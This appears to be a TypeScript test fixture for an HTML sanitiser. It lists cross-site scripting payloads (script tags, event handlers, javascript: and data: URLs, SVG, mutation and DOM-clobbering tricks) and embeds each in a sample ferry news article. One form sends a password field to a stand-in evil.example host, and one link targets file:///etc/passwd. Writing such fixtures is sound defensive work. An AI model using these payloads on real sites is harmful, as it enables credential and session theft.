/** Hostile pages for tests: what each attack would do, were it let through, is to call `steal`. */
const sentence =
  'The ferry sailed on Friday morning, the first in twelve years, with the mayor on board and a band. ';

/** Markup that would run, load or take over something, were it let through; each stands between two paragraphs. */
export const attacks: readonly [string, string][] = [
  ['a script', '<script>steal()</script>'],
  ['a script in pieces', '<scr<script>ipt>run()</scr</script>ipt>'],
  ['a script that never ends', '<p>Left open</p><img src=x onerror=steal()//'],
  [
    'handlers',
    `<p onclick="steal()" onmouseover=steal()>${sentence}<img src="/a.jpg" width=600 onerror="steal()"></p>`,
  ],
  [
    'a script address',
    `<p>${sentence}<a href="javascript:steal()">here</a> <a href=" jAvA&#x09;script:steal()">there</a></p>`,
  ],
  [
    'an address hidden by control characters',
    `<p>${sentence}<a href="\u0001javascript:steal()">x</a><a href="java\nscript:steal()">y</a></p>`,
  ],
  [
    'a data document',
    `<p>${sentence}<a href="data:text/html,<script>steal()</script>">x</a></p><iframe src="data:text/html,steal()"></iframe>`,
  ],
  ['a data picture', '<img src="data:image/svg+xml,<svg onload=steal()>" width=600 height=400>'],
  [
    'other schemes',
    `<p>${sentence}<a href="vbscript:steal()">x</a><a href="blob:https://a.example/1">y</a><a href="file:///etc/passwd">z</a></p>`,
  ],
  ['srcdoc', '<iframe srcdoc="<script>steal()</script>"></iframe>'],
  [
    'script in SVG',
    '<svg><script>steal()</script><a xlink:href="javascript:steal()"><text>steal</text></a></svg>',
  ],
  [
    'style',
    '<style>body{background:url(javascript:steal())}</style><p style="position:fixed;inset:0;background:url(https://evil.example)">Styled words here.</p>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:steal()">Send</button></form>',
  ],
  [
    'base and refresh',
    '<base href="javascript:steal()"><meta http-equiv="refresh" content="0;url=javascript:steal()">',
  ],
  [
    'clobbering',
    '<img name=createElement id=__proto__ src="/c.jpg"><form id=constructor><input name=hasOwnProperty></form><a id=toString href="#x">x</a>',
  ],
  [
    'mutation',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  ],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>'],
  [
    'an object',
    '<object data="javascript:steal()"></object><embed src="javascript:steal()"><applet code=steal></applet>',
  ],
  ['a template', '<template><script>steal()</script></template>'],
  [
    'an embedded post',
    '<blockquote class="twitter-tweet" cite="javascript:steal()"><a href="javascript:steal()/status/1">x</a></blockquote>',
  ],
  [
    'a caption',
    '<figure><img src="/d.jpg" width=600><figcaption><script>steal()</script>A <a href="javascript:steal()">pier</a></figcaption></figure>',
  ],
  [
    'a table',
    `<table><caption onclick=steal()>Ships</caption><tr><th>Day<th>Ships<tr><td><a href="javascript:steal()">Friday</a><td>2</table>`,
  ],
  ['code', '<pre class="lang-<script>steal()</script>"><code onclick=steal()>a &lt;script&gt;</code></pre>'],
];

/** The attack in the middle of an article. */
export const hostilePage = (attack: string, headline = 'First ferry in twelve years sails'): string =>
  `<!DOCTYPE html><html lang="en"><head><title>${headline}</title><meta property="og:image" content="javascript:steal()"><meta property="article:published_time" content="1990-01-01"><link rel="canonical" href="javascript:steal()"></head><body><article><h1>${headline}</h1><p>${sentence.repeat(4)}</p>${attack}<p>${sentence}And back.</p></article></body></html>`;
